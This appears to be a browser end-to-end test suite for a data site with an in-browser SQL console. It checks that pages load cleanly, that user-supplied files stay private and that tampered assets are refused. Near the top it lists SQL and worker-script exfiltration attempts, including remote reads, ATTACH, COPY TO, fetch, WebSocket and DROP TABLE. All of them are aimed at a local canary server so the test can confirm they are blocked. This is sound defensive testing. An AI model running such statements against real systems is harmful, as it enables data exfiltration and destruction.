import { afterAll, beforeAll, beforeEach, expect, inject, it } from 'vitest';
import { fill, giveFile, press, type RemotePage, until, wordsOf } from './page.ts';
import { type ProbedSite, serveProbed } from './site.ts';
import { type Canary, startCanary } from '../canary.ts';

const secret = 'Child-4711';

/** The ways out that SQL has, for a server that must hear nothing. */
const statementsOut = (canary: string): string[] => [
  `FROM read_csv('${canary}x.csv')`,
  `FROM read_text('${canary}x')`,
  `FROM '${canary}x.csv'`,
  `FROM read_parquet('${canary}x.parquet')`,
  `FROM glob('${canary}*')`,
  `ATTACH '${canary}x.db'`,
  `COPY panel TO '${canary}x.csv'`,
  `INSTALL httpfs FROM '${canary}'`,
  `LOAD '${canary}x.wasm'`,
  `SET VARIABLE v = 1; FROM read_csv('${canary}?' || getvariable('v'))`,
  'SET enable_external_access = true',
  'DROP TABLE panel',
];

/** The ways out that a script has in a worker of its own, which only the policy of the page can close. */
const waysOut = [
  'fetch(CANARY)',
  '(() => { const r = new XMLHttpRequest(); r.open("GET", CANARY); r.send(); })()',
  'new WebSocket(CANARY.replace("http", "ws"))',
  'importScripts(CANARY)',
];

/** The same journeys in any browser. */
export function journeys(open: () => Promise<RemotePage>): void {
  let site: ProbedSite;
  let canary: Canary;
  let page: RemotePage;
  beforeAll(async () => {
    page = await open();
    [site, canary] = await Promise.all([serveProbed(inject('baseURL')), startCanary()]);
  });
  afterAll(async () => {
    await page?.close();
    await Promise.all([site?.close(), canary?.close()]);
  });
  beforeEach(() => void (site.spoil = undefined));

  /** Goes to a page and waits until its scripts have run. */
  async function visit(path: string): Promise<void> {
    await page.goTo(`${site.url}${path}`);
    await until(page, 'document.readyState === "complete"');
  }

  /** What the page has done that it must not: faults, requests to elsewhere. */
  async function troubles(): Promise<string[]> {
    const elsewhere = `performance.getEntriesByType('resource').map(({ name }) => name)
      .filter((name) => !name.startsWith(location.origin) && !/^(data|blob):/.test(name))`;
    return await page.evaluate<string[]>(`[...faults, ...${elsewhere}]`);
  }

  /** What the canary heard of this browser, which goes there at last; an icon is asked for by the browser itself. */
  async function heardElsewhere(): Promise<string[]> {
    const heard = await canary.heard((url) => page.goTo(url));
    return heard.filter((line) => line !== 'GET /favicon.ico');
  }

  const ask = (sql: string): Promise<unknown> =>
    page.evaluate(`document.querySelector('sql-console').query(${JSON.stringify(sql)}).then(
      ({ rows }) => rows, (error) => error.kind + ': ' + error.message)`);

  it.each([
    '',
    'findings/',
    'findings/reflective-supervision/',
    'links/agency_rate/re_referrals/',
    'authorities/',
  ])('shows /%s with its heading and picture, and nothing goes wrong', async (path) => {
    await visit(path);
    await until(page, 'document.readyState === "complete"');
    expect((await wordsOf(page, 'h1')).length).toBeGreaterThan(5);
    expect(await page.evaluate('document.fonts.ready.then((fonts) => fonts.size)')).toBeGreaterThan(0);
    expect(await troubles()).toEqual([]);
  });

  it('would be seen to go wrong, and to ask elsewhere', async () => {
    await visit('');
    await page.evaluate(`void setTimeout(() => { throw new Error('on purpose'); })`);
    await page.evaluate(`void (new Image().src = ${JSON.stringify(`${canary.url}picture`)})`);
    await until(page, 'faults.length > 1');
    const told = (await troubles()).join(' ');
    expect(told).toContain('script: ');
    expect(told).toContain('policy: img-src');
  });

  it('filters the links and keeps that in the address', async () => {
    await visit('links/');
    await press(page, '#method-between');
    await until(page, 'location.hash.includes("method=between")');
    await visit('links/#method=adjusted&tier=1');
    await page.evaluate('location.reload()');
    await until(page, 'document.querySelector("#tier-1")?.checked');
    expect(await troubles()).toEqual([]);
  });

  it('computes a link in the explorer', async () => {
    await visit('explore/');
    await until(page, 'document.querySelector("link-explorer").dataset.state === "live"', 60_000);
    const before = await wordsOf(page, '[data-part="summary"]');
    await fill(page, 'select[name="outcome"]', 'repeat_plans');
    await until(
      page,
      `document.querySelector('[data-part="summary"]').innerText !== ${JSON.stringify(before)}`,
    );
    expect(await wordsOf(page, '[data-part="summary"]')).toContain('r = ');
    expect(await troubles()).toEqual([]);
  });

  it('runs a query in the console, by its button and from the keyboard’s field', async () => {
    await visit('query/');
    await press(page, '[data-part="run"]');
    await until(
      page,
      String.raw`/30 rows in \d/.test(document.querySelector('[data-part="state"]').innerText)`,
      60_000,
    );
    await page.evaluate(`document.querySelector('[data-part="textarea"]').focus()`);
    await until(
      page,
      `document.querySelector('[data-part="editor"]').shadowRoot?.querySelector('.cm-content')`,
    );
    expect(await ask('SELECT count(*) > 1000 AS many FROM panel')).toEqual([[true]]);
    expect(await troubles()).toEqual([]);
  });

  it('lets no statement out and none change anything', async () => {
    await visit('query/');
    for (const sql of statementsOut(canary.url))
      expect([sql, await ask(sql)]).toEqual([sql, expect.stringMatching(/^(query|refused): /)]);
    expect(await ask('SELECT count(*) > 1000 AS many FROM panel')).toEqual([[true]]);
    expect(await heardElsewhere()).toEqual([]);
  });

  it('holds a worker made from a blob to the policy of the page', async () => {
    await visit('query/');
    for (const way of waysOut) {
      const text = `const CANARY = ${JSON.stringify(canary.url)}; (async () => ${way})().catch(() => {}).finally(() => setTimeout(() => postMessage(0), 300));`;
      await page.evaluate(`new Promise((done) => {
          const worker = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(text)}], { type: 'text/javascript' })));
          worker.onmessage = worker.onerror = () => done(0);
        })`);
    }
    expect(await heardElsewhere()).toEqual([]);
  });

  it('reads a file of one’s own beside the tables, and closes it when the page is left', async () => {
    await visit('query/');
    await giveFile(page, '[data-part="choose-file"]', 'mine.csv', `authority,note\nA010,${secret}\n`);
    await until(
      page,
      `/is open as the table/.test(document.querySelector('[data-part="file-state"]').innerText)`,
      60_000,
    );
    expect(
      await ask('SELECT note, region IS NOT NULL AS known FROM mine JOIN authorities USING (authority)'),
    ).toEqual([[secret, true]]);
    expect(await troubles()).toEqual([]);
    await visit('privacy/');
    await page.goBack();
    await until(page, 'document.querySelector("sql-console") && document.readyState === "complete"');
    expect(await page.evaluate('document.body.textContent.includes("mine.csv is open")')).toBe(false);
  });

  it('places figures of one’s own, and forgets them when the page is left', async () => {
    await visit('compare/');
    await fill(page, '[data-part="paste"]', 'indicator,value\nvacancy_rate,13.371');
    await press(page, '[data-part="read-paste"]');
    await press(page, '[data-part="place"]');
    await until(page, `!document.querySelector('[data-part="placed"]').hidden`);
    expect(await page.evaluate(`document.querySelectorAll('#row-vacancy_rate .own').length`)).toBeGreaterThan(
      0,
    );
    expect(await troubles()).toEqual([]);
    await visit('privacy/');
    await page.goBack();
    await until(page, 'document.querySelector("own-figures") && document.readyState === "complete"');
    const left = `document.body.textContent + [...document.querySelectorAll('input, textarea')].map(({ value }) => value).join(' ')`;
    expect(await page.evaluate(`(${left}).includes('13.371')`)).toBe(false);
  });

  it.each([
    ['the engine', /duckdb-eh\.wasm\.gz$/],
    ['its worker', /worker\.js\.gz$/],
    ['a table', /authorities\.parquet$/],
  ])('starts nothing from a file of which one bit has changed: %s', async (_name, file) => {
    site.spoil = file;
    await visit('query/');
    expect(await ask('SELECT count(*) FROM authorities')).toMatch(/^other_file: /);
    site.spoil = undefined;
    expect(await ask('SELECT count(*) > 100 AS many FROM authorities')).toEqual([[true]]);
  });
}
